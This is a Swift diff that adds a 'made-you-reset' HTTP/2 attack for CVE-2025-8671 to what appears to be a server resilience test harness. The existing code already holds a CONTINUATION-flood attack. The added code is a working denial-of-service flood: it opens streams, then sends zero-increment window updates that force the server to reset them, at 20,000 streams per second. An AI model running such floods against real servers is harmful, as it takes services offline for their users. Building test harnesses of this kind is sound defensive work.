@@ -23,6 +23,23 @@ extension ConnectionAttack {
     }
   }
 
+  /// CVE-2025-8671: streams that the server is made to reset.
+  static let madeYouReset = ConnectionAttack(
+    name: "made-you-reset", rate: "20,000 streams/s that break a rule once they are open, on 4 connections"
+  ) { scene in
+    var peers = FramePeers(scene, count: 4)
+    scene.pace(200) { number in
+      peers.use(number) { peer in
+        let frames = (0..<100).flatMap { _ in
+          let stream = peer.takeStream()
+          return HTTP2Frame.request(stream, whoAmI, end: false).encoded()
+            + HTTP2Frame.windowUpdate(stream, 0).encoded()
+        }
+        return peer.write(frames)
+      }
+    }
+  }
+
   /// CVE-2024-28182: a header block that never ends.
   static let continuationFlood = ConnectionAttack(
     name: "CONTINUATION flood", rate: "6,400 frames/s of 1 KiB in header blocks that do not end, on 4 connections"
